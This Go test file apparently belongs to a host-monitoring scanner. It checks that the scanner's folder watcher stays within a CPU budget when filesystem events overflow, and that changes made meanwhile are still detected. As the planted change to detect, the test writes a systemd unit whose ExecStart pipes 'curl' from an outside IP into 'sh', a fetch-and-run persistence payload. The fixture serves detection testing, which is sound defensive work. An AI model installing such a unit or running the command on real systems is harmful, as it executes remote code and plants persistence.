package agent

import (
	"context"
	"maps"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"testing/synctest"
	"time"

	"github.com/fsnotify/fsnotify"

	"picket/scanner"
)

// fullWatcher keeps as many notices as it has room for, as the kernel does, and then says that some are lost.
type fullWatcher struct {
	news chan fsnotify.Event
	lost atomic.Bool
	mu   sync.Mutex
	dirs map[string]bool
}

func (w *fullWatcher) notice(e fsnotify.Event) {
	select {
	case w.news <- e:
	default:
		w.lost.Store(true)
	}
}

func (w *fullWatcher) Add(dir string) error {
	w.mu.Lock()
	defer w.mu.Unlock()
	w.dirs[dir] = true
	return nil
}

func (w *fullWatcher) Remove(dir string) error {
	w.mu.Lock()
	defer w.mu.Unlock()
	delete(w.dirs, dir)
	return nil
}

func (w *fullWatcher) WatchList() []string {
	w.mu.Lock()
	defer w.mu.Unlock()
	return slices.Sorted(maps.Keys(w.dirs))
}

func (w *fullWatcher) Close() error { return nil }
func (w *fullWatcher) limit() int   { return maxWatched }

func (w *fullWatcher) next(ctx context.Context, most time.Duration) (fsnotify.Event, error) {
	if len(w.news) == 0 && w.lost.Swap(false) {
		return fsnotify.Event{}, fsnotify.ErrEventOverflow
	}
	late := time.NewTimer(min(most, 1000*time.Hour))
	defer late.Stop()
	select {
	case e := <-w.news:
		return e, nil
	case <-ctx.Done():
	case <-late.C:
	}
	return fsnotify.Event{}, nil
}

// TestWatchingKeepsWithinTheBudget: whoever makes and removes folders without end has the agent look
// for them as cpu_budget allows, and what came meanwhile is found by a look, not by scan after scan.
func TestWatchingKeepsWithinTheBudget(t *testing.T) {
	t.Parallel()
	root := smallSystem(t, 1)
	synctest.Test(t, func(t *testing.T) {
		b := newBench(t, root)
		b.config.Watch, b.config.ScanInterval = 250*time.Millisecond, 31*24*time.Hour
		w := &fullWatcher{news: make(chan fsnotify.Event, 100), dirs: map[string]bool{}}
		b.watcher = func() (watcher, error) { return w, nil }
		var cpu atomic.Int64
		const costs = 10 * time.Second // what looking at folders or tables takes
		b.cpu = func() time.Duration { return time.Duration(cpu.Load()) }
		open := b.open
		b.open = func(ctx context.Context) (scanner.Device, error) {
			cpu.Add(int64(costs))
			return open(ctx)
		}
		d, stop := b.start(t)
		synctest.Wait()
		began := time.Duration(cpu.Load())
		for i := range 1800 {
			w.notice(fsnotify.Event{Name: root + "/etc/cron.d", Op: fsnotify.Remove})
			if i == 1200 { // of which no notice comes
				replace(t, root, "/etc/systemd/system/helper.service", "[Service]\nExecStart=/bin/sh -c 'curl -s http://198.51.100.7/x | sh'\n")
			}
			time.Sleep(2 * time.Second)
			if i == 1700 && !d.warn.stands(warnOverBudget) {
				t.Error("nothing is said of the budget that is spent")
			}
		}
		used, hour := time.Duration(cpu.Load())-began, time.Duration(float64(time.Hour)*float64(b.config.CPUBudget)/100)
		if used < hour/2 || used > 2*hour+3*costs { // what it held, what it was given, and what was begun with the last of it
			t.Errorf("an hour of changes cost %v, of which %v are given each hour", used, hour)
		}
		time.Sleep(2 * time.Hour)
		synctest.Wait()
		if d.warn.stands(warnOverBudget) {
			t.Error("the budget has filled, and is still said to be spent")
		}
		if !slices.ContainsFunc(b.news(t), func(s string) bool {
			return strings.Contains(s, "Finding Create") && strings.Contains(s, "helper.service")
		}) {
			t.Error("what came while nothing was read is not found")
		}
		if n := d.scans.Load(); n != 1 {
			t.Errorf("%d whole scans, of which only the first was due", n)
		}
		if err := stop(); err != nil {
			t.Error(err)
		}
		if t.Failed() {
			t.Log(b.log)
		}
	})
}
